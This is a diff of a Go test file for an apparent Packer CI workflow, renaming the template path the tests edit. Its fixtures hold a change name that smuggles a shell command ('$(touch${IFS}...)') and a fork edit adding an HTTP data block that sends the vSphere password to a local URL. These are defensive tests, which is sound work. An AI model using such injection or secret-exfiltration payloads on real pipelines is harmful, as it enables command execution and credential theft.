@@ -64,7 +64,7 @@ func TestPullRequest(t *testing.T) {
 	first := s.change("$(touch${IFS}"+strings.TrimPrefix(mark, "/")+")", 5, func() {
 		s.write("configs/lab/debian-12@vsphere.pkrvars.hcl", "vm_memory_mb = 8192\n")
 	})
-	second := s.change("second", 5, func() { s.edit("templates/common.pkr.hcl", "playbook_file", "playbok_file") })
+	second := s.change("second", 5, func() { s.edit("templates/os/linux.pkr.hcl", "playbook_file", "playbok_file") })
 	s.github([]string{first.head, second.head})
 	s.open(first)
 	r := s.act("pull_request", first.event)
@@ -99,7 +99,7 @@ func TestPullRequest(t *testing.T) {
 	if checks := s.hub.Checks(); len(checks) != 2 || checks[1]["conclusion"] != "failure" || checks[1]["head_sha"] != second.head {
 		t.Errorf("the check-runs are %v", checks)
 	}
-	s.annotated(r, "templates/common.pkr.hcl")
+	s.annotated(r, "templates/os/linux.pkr.hcl")
 }
 
 // TestFork plans the change of a fork, whose token writes nothing.
@@ -109,7 +109,7 @@ func TestFork(t *testing.T) {
 	s.secrets["PKR_VAR_VSPHERE_PASSWORD"] = "a-password-of-a-test"
 	good := s.change("good", 6, func() { s.write("configs/lab/debian-12@vsphere.pkrvars.hcl", "vm_memory_mb = 8192\n") })
 	evil := s.change("evil", 6, func() {
-		s.edit("templates/common.pkr.hcl", "\nbuild {", "\ndata \"http\" \"steal\" {\n  url = \"http://127.0.0.1:1/${env(\"PKR_VAR_vsphere_password\")}\"\n}\n\nbuild {")
+		s.edit("templates/os/linux.pkr.hcl", "\nbuild {", "\ndata \"http\" \"steal\" {\n  url = \"http://127.0.0.1:1/${env(\"PKR_VAR_vsphere_password\")}\"\n}\n\nbuild {")
 	})
 	s.github([]string{good.head, evil.head}, "checks", "issues") // GitHub's token for forks only reads
 	s.open(good)
@@ -122,7 +122,7 @@ func TestFork(t *testing.T) {
 	if r.jobs()["change"] != "failure" || !slices.Equal(r.exits(), []string{"3"}) {
 		t.Errorf("exit codes %v, jobs %v\n%s", r.exits(), r.jobs(), r.log())
 	}
-	s.annotated(r, "templates/common.pkr.hcl")
+	s.annotated(r, "templates/os/linux.pkr.hcl")
 	if len(s.hub.Checks())+len(s.hub.Comments()) > 0 {
 		t.Error("a fork's token wrote something")
 	}
